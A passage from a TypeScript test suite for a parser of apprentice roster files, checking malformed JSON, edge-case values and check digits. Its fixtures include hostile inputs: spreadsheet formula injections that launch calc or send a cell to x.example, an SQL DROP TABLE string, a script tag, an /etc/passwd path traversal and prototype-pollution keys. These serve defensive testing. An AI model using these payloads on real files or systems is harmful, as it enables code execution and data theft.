    {},
    headers.filter((name) => name !== "overeenkomst"),
  ),
  unusable("missingColumns", "overeenkomst"),
);
csvCase(
  "nobody",
  asCsv(
    learners,
    {},
    headers.filter((name) => name !== "insz"),
  ),
  unusable("missingColumns", "geboortedatum"),
);
csvCase("only a reference", asCsv(learners, {}, ["referentie"]), unusable("missingColumns", "geboortedatum"));

const jsonCase = (name: string, text: string, expected: Expected): void =>
  add("vorm", name, as("json"), text, expected);
const lineCase = (name: string, text: string, expected: Expected): void =>
  add("vorm", name, as("lines"), text, expected);
for (const [text, column] of [
  ["{]", 2],
  ["[}", 2],
  ["[1,]", 4],
  ["[,]", 2],
  ["{,}", 2],
  ['{"a"}', 5],
  ['{"a":}', 6],
  ['{"a":1,}', 8],
  ["[1 2]", 4],
  ["nul", 1],
  ["True", 1],
  ["NaN", 1],
  ["-", 1],
  ["+1", 1],
  [".5", 1],
  ["1.", 2],
  ["0x10", 2],
  ["1e", 2],
  ["01", 2],
  ["'a'", 1],
  ["{}}", 3],
  ["//x", 1],
  ["/**/[]", 1],
  ['["\\x"]', 3],
  ['["\\u12"]', 3],
  ['["a', 4],
  ["<html>", 1],
  ["--x", 1],
  [")]}',[]", 1],
  ["{columns:[]}", 2],
  ["{'columns':[]}", 2],
] as const)
  jsonCase(`slip ${text}`, text, unreadable("jsonSyntax", 1, column));
jsonCase(
  "a list behind a roster",
  `${asMatrix(learners)} []`,
  unreadable("jsonSyntax", 1, asMatrix(learners).length + 2),
);
jsonCase(
  "a bracket behind a roster",
  `${asObjects(learners)}]`,
  unreadable("jsonSyntax", 1, asObjects(learners).length + 1),
);
for (const [name, text] of [
  ["a text", '"A1"'],
  ["a number", "1"],
  ["null", "null"],
  ["true", "true"],
] as const)
  jsonCase(`${name} for a roster`, text, wrongShape("notARoster"));
jsonCase("an empty list", "[]", unusable("noColumns", "geboortedatum"));
jsonCase("an empty object", "{}", wrongShape("missingKey", null, "columns"));
jsonCase("a list of lists", "[[1],[2]]", wrongShape("rowNotAnObject", 2));
jsonCase("a list of texts", '["a"]', wrongShape("rowNotAnObject", 2));
jsonCase("a list of empty objects", "[{},{}]", unusable("noColumns", "geboortedatum"));
jsonCase("a null among objects", asObjects(learners).replace(/\]$/, ",null]"), wrongShape("rowNotAnObject", 5));
jsonCase("a list among objects", asObjects(learners).replace(/^\[/, "[[],"), wrongShape("rowNotAnObject", 2));
jsonCase("a blank object among objects", asObjects(learners).replace("},{", "},{},{"), about(standard, [], [2, 4, 5]));
jsonCase("no columns", '{"rows":[[1]]}', wrongShape("missingKey", null, "columns"));
jsonCase("no rows", `{"columns":${JSON.stringify(headers)}}`, wrongShape("missingKey", null, "rows"));
jsonCase("columns that are a text", '{"columns":"start","rows":[]}', wrongShape("missingKey", null, "columns"));
jsonCase(
  "rows that are an object",
  `{"columns":${JSON.stringify(headers)},"rows":{}}`,
  wrongShape("missingKey", null, "rows"),
);
jsonCase(
  "a key beside them",
  asMatrix(learners).replace(/\}$/, ',"kleur":1}'),
  wrongShape("unknownKey", null, "kleur"),
);
jsonCase("rows twice", asMatrix(learners).replace(/\}$/, ',"rows":[]}'), wrongShape("unknownKey", null, "rows"));
jsonCase(
  "columns twice",
  asMatrix(learners).replace(/^\{/, '{"columns":[],'),
  wrongShape("unknownKey", null, "columns"),
);
jsonCase("a header that is a number", asMatrix(learners).replace('"einde"', "1"), wrongShape("notAHeader", 1, 5));
jsonCase("a header that is a list", asMatrix(learners).replace('"einde"', '["einde"]'), wrongShape("notAHeader", 1, 5));
jsonCase(
  "a header that is null",
  asMatrix(
    learners.map((row) => ({ ...row, x: null })),
    [...headers, "x"],
  ).replace('"x"', "null"),
  allGood,
);
jsonCase("a row that is a text", asMatrix(learners).replace(/\]\]\}$/, '],"x"]}'), wrongShape("rowNotAList", 5));
jsonCase("a row that is an object", asMatrix(learners).replace(/\]\]\}$/, "],{}]}"), wrongShape("rowNotAList", 5));
jsonCase("a row too long", asMatrix(learners).replace("675.9]", "675.9,1]"), wrongShape("tooManyCells", 3));
jsonCase(
  "a row too short is blank at its end",
  asMatrix(learners).replace(",675.9]", "]"),
  about([{ step: 1 }, { step: 2, paid: null }, { step: 3 }]),
);
jsonCase("a row without cells", asMatrix(learners).replace("],[", "],[],["), about(standard, [], [2, 4, 5]));
jsonCase(
  "a key that one object alone has",
  asObjects(learners).replace('"A3"', '"A3","kleur":1'),
  about(standard, ["1 onbekende-kolommen"]),
);
jsonCase(
  "a key that the first object lacks",
  asObjects(learners).replace('"einde":"30/06/2026",', ""),
  about([{ step: 1, findings: ["einde-ontbreekt"] }, { step: 2 }, { step: 3 }]),
);
jsonCase(
  "three keys that the first object lacks",
  `[${asObject({ referentie: "A1", insz: "08.01.15-990.25", overeenkomst: "OAO", start: "1/09/2024", kwartaal: quarter })},${asObjects(learners.slice(1)).slice(1)}`,
  about([
    { step: 1, due: null, paid: null, findings: ["einde-ontbreekt", "trap-ontbreekt"] },
    { step: 2 },
    { step: 3 },
  ]),
);
lineCase(
  "keys that come one by one",
  lines('{"referentie":"A1"}', '{"insz":"08.01.15-990.25"}', '{"start":"1/09/2024"}', ...learners.map(asObject)),
  about([
    // Who it is, what agreement, since when; no kind of agreement, so nobody asks for its end.
    { step: 1, findings: ["cel-ontbreekt", "cel-ontbreekt", "cel-ontbreekt"], skipped: true },
    { step: 1, findings: ["cel-ontbreekt", "cel-ontbreekt"], skipped: true },
    { step: 1, findings: ["cel-ontbreekt", "cel-ontbreekt"], skipped: true },
    ...standard,
  ]),
);
jsonCase(
  "a key twice in an object, the last is right",
  asObjects(learners).replace('"trap":2', '"trap":"x","trap":2'),
  allGood,
);
jsonCase(
  "a key twice in an object, the last is wrong",
  asObjects(learners).replace('"trap":2', '"trap":2,"trap":"x"'),
  about([{ step: 1 }, broken, { step: 3 }]),
);
jsonCase(
  "a key twice in an object, the last is blank",
  asObjects(learners).replace('"einde":"30-6-2026"', '"einde":"30-6-2026","einde":null'),
  about([{ step: 1 }, { step: 2, findings: ["einde-ontbreekt"] }, { step: 3 }]),
);
jsonCase(
  "a column by two keys",
  asObjects(learners).replace('"A2"', '"A2","Début":"1/09/2024"'),
  unusable("doubleColumns", "start"),
);
jsonCase(
  "keys of every object",
  asObjects(learners).replace('"A2"', '"A2","__proto__":1,"constructor":2,"toString":3,"hasOwnProperty":4'),
  about(standard, ["1 onbekende-kolommen"]),
);
jsonCase(
  "a list of headers of every object",
  asMatrix(
    learners.map((row) => ({ ...row, "__proto__ ": 1, constructor: 2 })),
    [...headers, "__proto__ ", "constructor"],
  ),
  about(standard, ["1 onbekende-kolommen"]),
);
lineCase("an array", asObjects(learners), wrongShape("rowNotAnObject", 2));
lineCase("a null", lines(asObject(learners[0]), "null", asObject(learners[2])), wrongShape("rowNotAnObject", 3));
lineCase("a text", lines(asObject(learners[0]), '"x"'), wrongShape("rowNotAnObject", 3));
lineCase(
  "two objects on a line",
  asLines(learners).replace("}\n{", "} {"),
  unreadable("jsonSyntax", 1, asObject(learners[0]).length + 2),
);
lineCase(
  "a comma behind each line",
  asLines(learners, ",\n"),
  unreadable("jsonSyntax", 1, asObject(learners[0]).length + 1),
);
// Stricter readers want one line; what it means is clear.
lineCase("an object over two lines", asLines(learners).replace(',"start"', ',\n"start"'), allGood);
lineCase(
  "a line that is none",
  lines(asObject(learners[0]), "x", asObject(learners[2])),
  unreadable("jsonSyntax", 2, 1),
);
lineCase("a matrix", asMatrix(learners), wrongShape("notAValue", 2, "columns"));

// ── Values of every kind ──

/** What one cell of the second learner (row 3) gives. */
type Gives =
  | "good"
  | "unreadable"
  | "notAValue"
  | "hugeNumber"
  | "syntax"
  | Omit<RowOutcome, "step">
  | { readonly all: Good };
type Value = readonly [cell: Cell, gives: Gives];
const finds = (...findings: readonly string[]): Gives => ({ findings });
const expectedOf = (gives: Gives, column: string, text: string, cell: Cell): Expected => {
  if (gives === "good") return allGood;
  if (gives === "unreadable") return about([{ step: 1 }, broken, { step: 3 }]);
  if (gives === "notAValue" || gives === "hugeNumber") return wrongShape(gives, 3, column);
  if (gives === "syntax") return unreadable("jsonSyntax", ...placeIn(text, text.indexOf(`,${written(cell)}`) + 1));
  return "all" in gives ? gives.all : about([{ step: 1 }, { step: 2, ...gives }, { step: 3 }]);
};
const shownCell = (cell: Cell): string => {
  const text = typeof cell === "object" && cell !== null ? cell.raw : JSON.stringify(cell);
  return text.length > 50 ? `${text.slice(0, 40)}… (${text.length})` : text;
};
/** Tries values in one cell, as JSON; a text as CSV too. Of a column of its own the other learners have `usual`. */
const tryValues = (column: string, usual: Cell | undefined, values: readonly Value[]): void => {
  const columns = (headers as readonly string[]).includes(column) ? headers : [...headers, column];
  const rowsWith = (cell: Cell): readonly Row[] =>
    learners.map((row, place) =>
      place === 1 ? { ...row, [column]: cell } : usual === undefined ? row : { ...row, [column]: usual },
    );
  values.forEach(([cell, gives], turn) => {
    const rows = rowsWith(cell);
    // A slip of syntax is looked for behind a comma, so it stands in a matrix; only a text can be tried in CSV.
    const tried =
      gives === "syntax" ? "matrix" : typeof cell === "string" ? manners[turn % 4] : manners[1 + (turn % 3)];
    const text =
      tried === "CSV"
        ? asCsv(rows, {}, columns)
        : tried === "matrix"
          ? asMatrix(rows, columns)
          : tried === "objects"
            ? asObjects(rows)
            : asLines(rows);
    const type = tried === "CSV" ? "csv" : tried === "NDJSON" ? "lines" : "json";
    add("waarde", `${column} ${shownCell(cell)} in ${tried}`, as(type), text, expectedOf(gives, column, text, cell));
  });
};
const manners = ["CSV", "matrix", "objects", "NDJSON"] as const;
/** What no column takes. */
const neverJson: readonly Value[] = [
  [raw("NaN"), "syntax"],
  [raw("Infinity"), "syntax"],
  [raw("-Infinity"), "syntax"],
  [raw("undefined"), "syntax"],
  [raw("1e999"), "hugeNumber"],
  [raw("-1e999"), "hugeNumber"],
  [raw("[]"), "notAValue"],
  [raw("{}"), "notAValue"],
  [raw('["OAO"]'), "notAValue"],
  [raw('{"a":[1,{"b":null}]}'), "notAValue"],
];
/** Words that are no value of a day, a number or a choice. */
const neverText: readonly Value[] = [
  ["NaN", "unreadable"],
  ["Infinity", "unreadable"],
  ["-Infinity", "unreadable"],
  ["1e999", "unreadable"],
  ["null", "unreadable"],
  ["undefined", "unreadable"],
  ["[]", "unreadable"],
  ["#N/B", "unreadable"],
  ["#REF!", "unreadable"],
  ["=1+1", "unreadable"],
  ["😀", "unreadable"],
  ["\u202e5.216", "unreadable"],
];
/** The same, of columns whose kind was tried in full. */
const seldomJson = neverJson.filter(([cell]) => ["NaN", "1e999", "[]", "{}"].includes(written(cell)));
const seldomText = neverText.filter(([cell]) => ["NaN", "1e999", "#N/B", "=1+1", "😀"].includes(String(cell)));
const blanks = (gives: Gives): readonly Value[] => [
  [null, gives],
  ["", gives],
  ["   ", gives],
  ["\u00a0", gives],
];
const outside = { skipped: true } as const;
const beforeStart: Gives = { findings: ["einde-voor-start"], ...outside };

tryValues("einde", undefined, [
  ...neverJson,
  ...neverText,
  ...blanks(finds("einde-ontbreekt")),
  [0, finds("einde-ontbreekt")],
  [raw("-0"), finds("einde-ontbreekt")],
  [raw("0.0e5"), finds("einde-ontbreekt")],
  [true, "unreadable"],
  [false, "unreadable"],
  [0.5, "unreadable"],
  [-1, "unreadable"],
  [1, beforeStart],
  [59, beforeStart],
  [60, "unreadable"],
  [61, beforeStart],
  [1899, beforeStart],
  [1900, "unreadable"],
  [2026, "unreadable"],
  [2100, "unreadable"],
  [2101, beforeStart],
  [45535, beforeStart],
  [46203, "good"],
  [46203.75, "good"],
  [raw("4.6203e4"), "good"],
  [109574, finds("duur-te-lang")],
  [109575, "unreadable"],
  [2958465, "unreadable"],
  [2958466, "unreadable"],
  [1e15, "unreadable"],
  [raw("1e308"), "unreadable"],
  [raw(`4620${"0".repeat(400)}`), "hugeNumber"],
  [raw("0.00000000000000000000000000000000000001"), "unreadable"],
  ["29/02/2024", beforeStart],
  ["29/02/2023", "unreadable"],
  ["29/02/2025", "unreadable"],
  ["29/02/2028", finds("duur-te-lang")],
  ["29/02/2100", "unreadable"],
  ["29/02/1900", "unreadable"],
  ["29/02/2000", beforeStart],
  ["1/01/1900", beforeStart],
  ["31/12/1899", "unreadable"],
  ["31/12/2199", finds("duur-te-lang")],
  ["1/01/2200", "unreadable"],
  ["31/12/9999", "unreadable"],
  ["31/08/2027", "good"],
  ["1/09/2027", finds("duur-te-lang")],
  ["1/09/2024", { findings: ["kwartaal-buiten-overeenkomst"], elsewhere: true }],
  ["30/13/2026", "unreadable"],
  ["32/06/2026", "unreadable"],
  ["31/06/2026", "unreadable"],
  ["0/06/2026", "unreadable"],
  ["30/00/2026", "unreadable"],
  ["06/30/2026", "unreadable"],
  ["06/07/2026", "good"],
  ["30/06/26", "unreadable"],
  ["30/06/026", "unreadable"],
  ["30/06/02026", "unreadable"],
  ["30.06.2026", "good"],
  ["30/06-2026", "unreadable"],
  ["2026-06-30", "good"],
  ["2026-6-30", "good"],
  ["2026/06/30", "unreadable"],
  ["20260630", "unreadable"],
  ["2026-06-30T00:00:00Z", "unreadable"],
  ["30/06/2026 00:00", "unreadable"],
  ["30 juni 2026", "unreadable"],
  [" 30/06/2026\t", "good"],
  ["30/ 06/2026", "unreadable"],
  ["-30/06/2026", "unreadable"],
  ["46203", "unreadable"],
  ["0", "unreadable"],
  ["-0", "unreadable"],
  ["1", "unreadable"],
  ["60", "unreadable"],
  ["٣٠/٠٦/٢٠٢٦", "unreadable"],
  ["３０/０６/２０２６", "unreadable"],
  ["30\u200b/06/2026", "unreadable"],
  ["30/06/2026\u200f", "unreadable"],
  ["=DATE(2026;6;30)", "unreadable"],
]);
tryValues("trap", undefined, [
  ...neverJson,
  ...neverText.filter(([text]) => text !== "=1+1" && text !== "\u202e5.216"),
  ...blanks({ findings: ["trap-ontbreekt"], due: null }),
  [0, { findings: ["trap-ontbreekt"], due: null }],
  [raw("-0"), { findings: ["trap-ontbreekt"], due: null }],
  [true, "unreadable"],
  [false, "unreadable"],
  [2, "good"],
  ["2", "good"],
  [" 2 ", "good"],
  ["trap 2", "good"],
  ["Échelon 2", "good"],
  ["STEP 2", "good"],
  [raw("2.0"), "good"],
  [raw("2e0"), "good"],
  [1, { all: about([{ step: 1 }, { step: 1, paid: 67_590 }, { step: 3 }]) }],
  [3, { all: about([{ step: 1 }, { step: 3, paid: 67_590, findings: paidFindings(3, 67_590) }, { step: 3 }]) }],
  [4, "unreadable"],
  [12, "unreadable"],
  [-2, "unreadable"],
  ["-2", "unreadable"],
  ["=2", "unreadable"],
  [1.5, "unreadable"],
  [2.0000001, "unreadable"],
  ["2.0", "unreadable"],
  ["2,0", "unreadable"],
  ["II", "unreadable"],
  ["²", "unreadable"],
  ["２", "unreadable"],
  ["٢", "unreadable"],
  ["2/1", "unreadable"],
  ["twee", "unreadable"],
]);
tryValues("overeenkomst", undefined, [
  ...neverJson,
  ...neverText,
  ...blanks({ findings: ["cel-ontbreekt"], skipped: true }),
  [0, { findings: ["cel-ontbreekt"], skipped: true }],
  [1, "unreadable"],
  [true, "unreadable"],
  ["oao", "good"],
  [" OÀO ", "good"],
  ["Overeenkomst Alternerende Opleiding", "good"],
  ["contrat de formation en alternance", "good"],
  ["OAO\u200b", "good"],
  ["IBAL", "unreadable"],
  ["OAO OAO", "unreadable"],
  ["ＯＡＯ", "unreadable"],
  ["ОАО", "unreadable"],
  ["constructor", "unreadable"],
  ["__proto__", "unreadable"],
  ["SAO", { findings: ["sao-met-leervergoeding", "trap-zonder-betekenis"], due: [0, 0, 0] }],
  ["DA", { findings: ["loon-in-plaats", "trap-zonder-betekenis"], due: [0, 0, 0], paid: 0 }],
]);
const paying = (cents: number, ...more: readonly string[]): Gives => ({
  paid: cents,
  findings: [...paidFindings(2, cents), ...more],
});
tryValues("leervergoeding", undefined, [
  ...neverJson,
  ...neverText,
  ...blanks({ paid: null }),
  [true, "unreadable"],
  [false, "unreadable"],
  [0, paying(0)],
  [raw("-0"), paying(0)],
  [0.01, paying(1)],
  [-0.01, "unreadable"],
  [-675.9, "unreadable"],
  [raw("6759e-1"), "good"],
  [raw("675.90000"), "good"],
  [675.901, "unreadable"],
  [0.001, "unreadable"],
  // Nearer to a cent than a number can tell.
  [1e-300, paying(0)],
  [337.94, paying(33_794)],
  [337.95, paying(33_795)],
  [645.17, paying(64_517)],
  [645.18, paying(64_518)],
  [675.89, paying(67_589)],
  [675.91, paying(67_591)],
  [612.5, paying(61_250)],
  [3379.5, paying(337_950)],
  [3379.51, paying(337_951)],
  [6759, paying(675_900)],
  [67590, paying(6_759_000)],
  [100000, paying(10_000_000)],
  [100000.01, "unreadable"],
  [raw("9007199254740993"), "unreadable"],
  [raw("1e308"), "unreadable"],
  ["675,9", "good"],
  ["675.90", "good"],
  ["€ 675,90", "good"],
  ["675,90 €", "good"],
  ["+675,90", "good"],
  ["1.234,56", paying(123_456)],
  ["1,234.56", paying(123_456)],
  ["1 234,56", paying(123_456)],
  ["1\u202f234,56", paying(123_456)],
  ["1\u00a0234,56", paying(123_456)],
  ["1.234", "unreadable"],
  ["675,900", "unreadable"],
  ["675,901", "unreadable"],
  ["675,9000", "good"],
  ["1'234.56", "unreadable"],
  ["1.23.456", "unreadable"],
  ["675,,9", "unreadable"],
  ["675,", "unreadable"],
  [",9", "unreadable"],
  ["--1", "unreadable"],
  ["-1", "unreadable"],
  ["-0", paying(0)],
  ["0", paying(0)],
  ["00675,90", "good"],
  ["675,90-", "unreadable"],
  ["(675,90)", "unreadable"],
  ["675,90 EUR", "unreadable"],
  ["$675.90", "unreadable"],
  ["6,759e2", "unreadable"],
  ["0x2A3", "unreadable"],
  ["٦٧٥", "unreadable"],
  ["½", "unreadable"],
  ["999999999999999999999", "unreadable"],
]);
tryValues("kwartaal", undefined, [
  ...seldomJson,
  ...seldomText,
  ...blanks("good"),
  [0, "good"],
  [true, "unreadable"],
  [20252, "good"],
  ["20252", "good"],
  ["2025k2", "good"],
  ["2025Q2", "good"],
  ["2025/2", "good"],
  ["2025-2", "good"],
  ["30/06/2025", "good"],
  [45778, "good"],
  [20255, "unreadable"],
  [20250, "unreadable"],
  [20252.5, "unreadable"],
  [-20252, "unreadable"],
  [2025, "unreadable"],
  ["2025", "unreadable"],
  ["2025K5", "unreadable"],
  ["2025K0", "unreadable"],
  ["K2 2025", "unreadable"],
  ["1899K4", "unreadable"],
  ["2200K1", "unreadable"],
  ["31/06/2025", "unreadable"],
  ["2025K1", { elsewhere: true }],
  ["2030K2", { elsewhere: true, findings: ["kwartaal-buiten-overeenkomst"] }],
]);
tryValues("urenWerkplek", 22, [
  ...seldomJson,
  ...seldomText,
  ...blanks("good"),
  [true, "unreadable"],
  [20, "good"],
  [19.99, finds("uren-te-weinig")],
  [0, finds("uren-te-weinig")],
  [raw("-0"), finds("uren-te-weinig")],
  [-1, "unreadable"],
  [50, "good"],
  [50.01, finds("uren-onmogelijk")],
  [60, finds("uren-onmogelijk")],
  [60.01, "unreadable"],
  [22.005, "unreadable"],
  ["22,5", "good"],
  ["22:30", "unreadable"],
  ["22u", "unreadable"],
  ["22.000", "unreadable"],
]);
/** A day of absence less each month, of the paid timetable days. */
const absent = (days: number): Gives => ({
  due: [half(67_590, 11 - days, 22), half(67_590, 21 - days, 22), half(67_590, 21 - days, 21)],
});
tryValues("afwezig", 0, [
  ...seldomJson,
  ...seldomText,
  ...blanks("good"),
  [true, "unreadable"],
  [0, "good"],
  [raw("-0"), "good"],
  [1, absent(1)],
  ["1", absent(1)],
  ["1,0", absent(1)],
  [11, absent(11)],
  [1.5, "unreadable"],
  ["1,5", "unreadable"],
  [-1, "unreadable"],
  [32, "unreadable"],
  ["één", "unreadable"],
]);
tryValues("vergoed", true, [
  ...seldomJson,
  ...seldomText,
  ...blanks("good"),
  [true, "good"],
  ...["WAAR", "true", "Vrai", "JA", "oui", " yes "].map((word): Value => [word, "good"]),
  [false, finds("vergoed-tegenstrijdig")],
  ...["ONWAAR", "False", "faux", "nee", "neen", "NON", "no"].map(
    (word): Value => [word, finds("vergoed-tegenstrijdig")],
  ),
  [0, "unreadable"],
  [1, "unreadable"],
  [raw("-0"), "unreadable"],
  ["0", "unreadable"],
  ["1", "unreadable"],
  ["x", "unreadable"],
  ["j", "unreadable"],
  ["ja nee", "unreadable"],
]);
const padded = (...findings: readonly string[]): Gives => ({
  all: about([{ step: 1 }, { step: 2, findings }, { step: 3 }], ["1 aangevulde-nummers"]),
});
tryValues("onderneming", "1999.990.144", [
  ...seldomJson,
  ...seldomText,
  ...blanks("good"),
  [true, "unreadable"],
  [1999990144, "good"],
  [raw("1999990144.0"), "good"],
  ["1999 990 144", "good"],
  ["1999/990/144", "good"],
  ["1999.990.145", finds("onderneming-controlegetal")],
  [1e9, finds("onderneming-controlegetal")],
  [196, padded()],
  ["196", padded()],
  ["0000000196", "good"],
  [0, padded("onderneming-controlegetal")],
  [-196, "unreadable"],
  [1.5, "unreadable"],
  ["BE 1999.990.144", "unreadable"],
  ["19999901440", "unreadable"],
  ["1999_990_144", "unreadable"],
  ["１９９９９９０１４４", "unreadable"],
]);
tryValues("weekrooster", "WWWLL--", [
  ...seldomJson,
  ...seldomText,
  ...blanks("good"),
  [0, "good"],
  [1, "unreadable"],
  [true, "unreadable"],
  ["wwwll--", "good"],
  ["WWW LL – –", "good"],
  ["WWWLL--WWWLL--", "good"],
  ["WWWLL-", "unreadable"],
  ["WWWLL---", "unreadable"],
  ["-------", "unreadable"],
  ["XXXXX--", "unreadable"],
  ["WWWLL\u200b--", "unreadable"],
  ["WWWWW--", finds("weekrooster-eenzijdig")],
  ["LLLLL--", finds("weekrooster-eenzijdig")],
]);
tryValues("mu", null, [
  ...seldomJson,
  ...seldomText,
  ...blanks("good"),
  [true, "unreadable"],
  [0, "good"],
  [0.1369, "good"],
  ["0,1369", "good"],
  [1.0001, finds("mu-boven-een")],
  [2, finds("mu-boven-een")],
  [2.0001, "unreadable"],
  [-0.0001, "unreadable"],
  [0.12345, "unreadable"],
  ["0,137", "good"],
  ["50%", "unreadable"],
]);
tryValues("pc", "112", [
  ...seldomJson,
  ...seldomText,
  ...blanks("good"),
  [124, "good"],
  ["PC 124", "good"],
  ["C.P. 0149.01", "good"],
  ["12", "unreadable"],
  ["1234", "unreadable"],
  ["\u202e5.216", "unreadable"],
  [true, "unreadable"],
]);
tryValues(
  "opleiding",
  "garage",
  [
    ...seldomJson,
    ["NaN", "good"],
    [12, "good"],
    [raw("-0"), "good"],
    [1e300, "good"],
    [true, "good"],
    ["x".repeat(200), "good"],
    ["x".repeat(201), "unreadable"],
    ["é".repeat(201), "unreadable"],
    ["[".repeat(10_000), "unreadable"],
    ["x".repeat(32_767), "unreadable"],
    ["x".repeat(32_768), { all: allGood }],
  ]
    .map(([cell, gives]): Value => [cell as Cell, gives as Gives])
    .filter(([cell]) => !(typeof cell === "string" && cell.length > 32_767)),
);
tryValues("insz", undefined, [
  ...seldomJson,
  ...seldomText,
  ...blanks({ findings: ["cel-ontbreekt"], skipped: true }),
  [true, "unreadable"],
  ["08.03.10-991.91", "good"],
  [8031099191, padded()],
  ["8031099191", padded()],
  [0, padded("insz-controlegetal")],
  ["08.03.10-991.92", finds("insz-controlegetal")],
  ["08.03.10-991.9", padded("insz-controlegetal")],
  ["008.03.10-991.91", "unreadable"],
  [-8031099191, "unreadable"],
  [80310991.91, "unreadable"],
  ["INSZ 08.03.10-991.91", "unreadable"],
  ["08.03.10–991.91", "unreadable"],
]);

// ── Texts ──

/** A reference comes back as it was given, where something is found in its row. */
const texts: readonly (readonly [string, string])[] = [
  ["an emoji", "😀👩‍👩‍👧‍👦🇧🇪"],
  ["Hebrew", "שלום עולם"],
  ["Arabic", "متدرب ٣"],
  ["Chinese", "学徒"],
  ["a mark that turns the direction", "A\u202e3\u202c"],
  ["isolates", "\u2066A\u2069"],
  ["zero width", "A\u200b\u200c\u200d\u20602"],
  ["combining accents", `e${"\u0301".repeat(80)}`],
  ["a ligature", "ﬁrma Ǆ ß İ"],
  ["a private letter", "\ue000\u{f0000}"],
  ["no character", "\ufffe\uffff\ufffd"],
  ["HTML", "<script>alert(1)</script>&amp;<!--"],
  ["XML", "]]></v><![CDATA[ _x000D_ _x0041_"],
  ["a template", `$${"{process.env}"} {{7*7}} %s %n`],
  ["a path", "../../etc/passwd\\..\\x"],
  ["SQL", "'; DROP TABLE lerenden; --"],
  ["a name of every object", "constructor"],
  ["a prototype", "__proto__"],
  ["a dash", "–"],
  ["spaces inside", "A  \u00a0 2"],
  ["places of our own sentences", "{kolommen}{probleem}{rij}{given}"],
  ["200 letters", "x".repeat(200)],
];
const formulas: readonly (readonly [string, string])[] = [
  ["a command", "=cmd|' /C calc'!A0"],
  ["DDE", '=DDE("cmd";"/C calc";"x")'],
  ["a link", '=HYPERLINK("http://x.example/?"&A1;"klik")'],
  ["a plus", "+1+cmd|'/C calc'!A0"],
  ["a minus", "-2+3+cmd|'/C calc'!A0"],
  ["an at", "@SUM(1+1)*cmd|'/C calc'!A0"],
  ["a wide equals sign", "＝1+1"],
  ["a wide plus", "＋1"],
  ["a wide minus", "－1"],
  ["a wide at", "＠SUM(1)"],
  ["a quote before it", "'=1+1"],
  ["a double quote before it", '"=1+1'],
  ["an equals sign alone", "="],
  ["a minus alone", "-"],
  ["a mark before it", "\u200b=1+1"],
];
const twoBad: RowOutcome = { step: 2, skipped: true, findings: ["cel-onleesbaar"] };
for (const [what, text] of [
  ...texts,
  ...formulas,
  ["a tab inside", "A\t=1+1"],
  ["a line end inside", "A\r\n=1+1"],
] as const) {
  const rows = withReference(text).map((row, place) => (place === 1 ? { ...row, trap: "x" } : row));
  const expected = { ...about([{ step: 1 }, twoBad, { step: 3 }]), references: { 3: text.trim() } };
  const kind = formulas.some(([name]) => name === what) || text.includes("=1") ? "formule" : "tekst";
  add(kind, `${what} as a reference in JSON`, as("json"), asMatrix(rows), expected, { tables: true });
  add(kind, `${what} as a reference in CSV`, as("csv"), asCsv(rows), expected);
}
for (const [what, text] of [
  ["an escaped NUL", "A\u00002"],
  ["a bell and an escape", "\u0007A\u001b[31m"],
  ["a half surrogate", "A\ud83d"],
] as const) {
  const rows = withReference(text).map((row, place) => (place === 1 ? { ...row, trap: "x" } : row));
  const expected = { ...about([{ step: 1 }, twoBad, { step: 3 }]), references: { 3: text } };
  add("tekst", `${what} as a reference in JSON`, as("json"), asMatrix(rows), expected, { tables: true });
}
for (const [what, text] of formulas) {
  const rows = learners.map((row) => ({ ...row, [text]: "x" }));
  const expected = about(standard, ["1 onbekende-kolommen"]);
  add("formule", `${what} as a header in JSON`, as("json"), asMatrix(rows, [...headers, text]), expected);
  add("formule", `${what} as a header in CSV`, as("csv"), asCsv(rows, {}, [...headers, text]), expected, {
    tables: true,
  });
  const typed = learners.map((row, place) => (place === 1 ? { ...row, einde: text } : row));
  add("formule", `${what} as a day`, as("csv"), asCsv(typed), about([{ step: 1 }, broken, { step: 3 }]), {
    tables: true,
  });
}
for (const [what, text] of texts) {
  const rows = learners.map((row) => ({ ...row, [`kleur ${text}`]: "x" }));
  add(
    "tekst",
    `${what} in a header`,
    as("csv"),
    asCsv(rows, {}, [...headers, `kleur ${text}`]),
    about(standard, ["1 onbekende-kolommen"]),
  );
}
/** Long cells and many columns. */
const wide = (count: number): readonly string[] => [
  ...headers,
  ...Array.from({ length: count - headers.length }, (_, place) => `kolom ${place}`),
];
for (const [name, type, write] of [
  ["CSV", "csv", (rows: readonly Row[], columns: readonly string[]) => asCsv(rows, {}, columns)],
  ["JSON", "json", (rows: readonly Row[], columns: readonly string[]) => asMatrix(rows, columns)],
  ["NDJSON", "lines", (rows: readonly Row[]) => asLines(rows)],
] as const) {
  const withCell = (column: string, text: string): string =>
    write(
      learners.map((row, place) =>
        place === 1 ? { ...row, [column]: text } : { ...row, [column]: row[column] ?? "" },
      ),
      [...new Set([...headers, column])],
    );
  add(
    "groot",
    `a cell of 32,767 characters in ${name}`,
    as(type),
    withCell("kleur", "x".repeat(32_767)),
    about(standard, ["1 onbekende-kolommen"]),
  );
  add(
    "groot",
    `a cell of 32,768 characters in ${name}`,
    as(type),
    withCell("kleur", "x".repeat(32_768)),
    wrongShape("cellTooLong", 3, "kleur"),
  );
  add(
    "groot",
    `a reference of 32,767 characters in ${name}`,
    as(type),
    withCell("referentie", "x".repeat(32_767)),
    about([{ step: 1 }, broken, { step: 3 }]),
  );
  add(
    "groot",
    `a reference of 32,768 characters in ${name}`,
    as(type),
    withCell("referentie", "x".repeat(32_768)),
    wrongShape("cellTooLong", 3, "referentie"),
  );
  add(
    "groot",
    `a cell of 32,767 accents in ${name}`,
    as(type),
    withCell("kleur", "é".repeat(32_767)),
    about(standard, ["1 onbekende-kolommen"]),
  );
  add(
    "groot",
    `a cell of 32,768 accents in ${name}`,
    as(type),
    withCell("kleur", "é".repeat(32_768)),
    wrongShape("cellTooLong", 3, "kleur"),
  );
  add(
    "groot",
    `a cell of 32,768 quotes in ${name}`,
    as(type),
    withCell("kleur", '"'.repeat(32_768)),
    wrongShape("cellTooLong", 3, "kleur"),
  );
  add(
    "groot",
    `a cell of 10,000 brackets in ${name}`,
    as(type),
    withCell("kleur", "[{".repeat(5_000)),
    about(standard, ["1 onbekende-kolommen"]),
  );
  add(
    "groot",
    `a header of 32,767 characters in ${name}`,
    as(type),
    write(
      learners.map((row) => ({ ...row, ["k".repeat(32_767)]: 1 })),
      [...headers, "k".repeat(32_767)],
    ),
    about(standard, ["1 onbekende-kolommen"]),
  );
  add(
    "groot",
    `a header of 32,768 characters in ${name}`,
    as(type),
    write(
      learners.map((row) => ({ ...row, ["k".repeat(32_768)]: 1 })),
      [...headers, "k".repeat(32_768)],
    ),
